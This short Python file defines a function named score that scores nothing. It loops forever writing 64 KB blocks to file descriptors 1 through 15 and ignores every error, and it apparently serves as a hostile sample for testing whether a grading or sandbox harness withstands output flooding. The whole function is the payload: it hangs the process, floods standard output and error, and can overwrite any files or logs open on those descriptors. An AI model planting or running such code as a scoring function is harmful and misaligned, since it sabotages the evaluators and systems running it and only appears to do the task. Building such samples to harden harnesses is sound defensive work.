"""Writes without end to every descriptor."""
import os


def score(text):
    block = b"2" * 65536
    while True:
        for descriptor in range(1, 16):
            try:
                os.write(descriptor, block)
            except OSError:
                pass
